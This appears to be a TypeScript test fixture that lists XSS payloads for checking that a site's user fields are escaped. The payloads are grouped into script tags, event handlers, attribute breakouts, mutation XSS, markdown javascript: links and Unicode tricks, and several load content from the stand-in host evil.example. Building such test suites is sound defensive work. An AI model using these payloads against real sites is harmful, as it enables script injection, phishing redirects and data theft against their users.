import { hasContactDetails } from "../../../packages/server/src/features/profiles/contact-details.ts";

/** The function that a payload calls when it runs, and the mark of an element that it becomes. */
export const CALLED = "gemelRan";
export const MARK = "data-injected";

const run = `${CALLED}()`;
const code = `javascript:${run}`;

/**
 * Texts that become something else if they are not treated as text, by class. Written for our fields, after
 * the classes of the OWASP XSS filter evasion page and of the lists of naughty strings.
 */
const classes = {
  elements: [
    `<script ${MARK}>${run}</script>`,
    `<ScRiPt ${MARK}>${run}</sCrIpT>`,
    `<script ${MARK} src=https://evil.example/a.js></script>`,
    `<script ${MARK} src=data:text/javascript,${run}></script>`,
    `<iframe ${MARK} srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object ${MARK} data="${code}"></object>`,
    `<embed ${MARK} src="https://evil.example/a.swf">`,
    `<link ${MARK} rel=stylesheet href=https://evil.example/a.css>`,
    `<style ${MARK}>@import "https://evil.example/a.css";</style>`,
    `<base ${MARK} href=https://evil.example/>`,
    `<meta ${MARK} http-equiv=refresh content="0;url=https://evil.example/">`,
    `<form ${MARK} action=https://evil.example/><button>Go on</button></form>`,
  ],
  handlers: [
    `<img ${MARK} src=x onerror=${run}>`,
    `<img ${MARK} src=x onerror\u0009=\u000A${run}>`,
    `<svg ${MARK} onload=${run}>`,
    `<svg><animate ${MARK} onbegin=${run} attributeName=x dur=1s></svg>`,
    `<body ${MARK} onpageshow=${run}>`,
    `<input ${MARK} autofocus onfocus=${run}>`,
    `<details ${MARK} open ontoggle=${run}>`,
    `<video ${MARK}><source onerror=${run}></video>`,
    `<marquee ${MARK} onstart=${run}>`,
    `<a ${MARK} href=# onmouseover=${run} style=position:fixed;inset:0>`,
  ],
  breakouts: [
    `"><img ${MARK} src=x onerror=${run}>`,
    `'><img ${MARK} src=x onerror=${run}>`,
    `</textarea><img ${MARK} src=x onerror=${run}>`,
    `</title><img ${MARK} src=x onerror=${run}>`,
    `--><img ${MARK} src=x onerror=${run}>`,
    `]]><img ${MARK} src=x onerror=${run}>`,
    `</script><script ${MARK}>${run}</script>`,
    `" autofocus onfocus="${run}" x="`,
    `\${${run}}{{${run}}}<%= ${run} %>#{${run}}`,
    `&lt;img ${MARK} src=x onerror=${run}&gt;`,
    `&#60;img ${MARK} src=x onerror=${run}&#62;`,
    `\\u003cimg ${MARK} src=x onerror=${run}\\u003e`,
  ],
  mutations: [
    `<math><mtext><table><mglyph><style><!--</style><img ${MARK} src=x onerror=${run}>`,
    `<noscript><p title="</noscript><img ${MARK} src=x onerror=${run}>">`,
    `<svg></p><style><a id="</style><img ${MARK} src=x onerror=${run}>">`,
    `<select><template ${MARK} shadowrootmode=open><img src=x onerror=${run}></template></select>`,
    `<template ${MARK}><script>${run}</script></template>`,
    `<x-gemel is=x ${MARK} onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
  ],
  markdown: [
    `[press](${code})`,
    `[press](JaVaScRiPt:${run})`,
    `[press](java\u0000script:${run})`,
    `[press](java&#115;cript:${run})`,
    `[press](&#x09;${code})`,
    `[press](data:text/html,<script>${run}</script>)`,
    `[press](vbscript:${run})`,
    `[press](<${code}>)`,
    `[press][a]\n\n[a]: ${code}`,
    `<${code}>`,
    `![picture](https://evil.example/a.png)`,
    `![picture](${code})`,
    `![picture](data:image/svg+xml,<svg onload=${run}>)`,
    `[press](https://evil.example/ "title\\" onmouseover=${run} ${MARK}=\\"")`,
    `| a |\n|---|\n| <img ${MARK} src=x onerror=${run}> |`,
    `\`\`\`html"onload=${run}\n<img ${MARK} src=x onerror=${run}>\n\`\`\``,
    `$\\href{${code}}{x}$`,
  ],
  writing: [
    `\u202Egnp.exe <img ${MARK} src=x onerror=${run}>`,
    `\u2066\u202E\u2069\u200F<img ${MARK} src=x onerror=${run}>`,
    `\uFEFF<img ${MARK} src=x onerror=${run}>`,
    `\u2028<img ${MARK} src=x onerror=${run}>\u2029`,
    `\uFF1Cimg ${MARK} src=x onerror=${run}\uFF1E`,
    `\u0001\u0008\u001B[31m<img ${MARK} src=x onerror=${run}>`,
    `Z\u0351\u036B\u0343${"\u0351\u036B\u0343".repeat(20)}algo <img ${MARK} src=x onerror=${run}>`,
    `\u{1F469}\u200D\u{1F469}\u200D\u{1F467}<img ${MARK} src=x onerror=${run}>`,
  ],
} as const;

/** NUL is refused by the contract, so no text that reaches a page has one. */
const hasNull = (text: string): boolean => text.includes("\u0000");

/** Every payload that a field may hold. */
export const payloads: readonly string[] = Object.values(classes)
  .flat()
  .filter((text) => !hasNull(text));

/** Payloads that a field may hold if strangers read it. */
export const payloadsForStrangers = payloads.filter((text) => !hasContactDetails(text));

/** Payloads in texts of so many characters at most, one payload a paragraph. */
export function inTexts(max: number, of: readonly string[] = payloads): readonly string[] {
  const texts: string[] = [];
  for (const payload of of) {
    const last = texts.at(-1);
    const longer = last === undefined ? payload : `${last}\n\n${payload}`;
    if (last !== undefined && longer.length <= max) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}
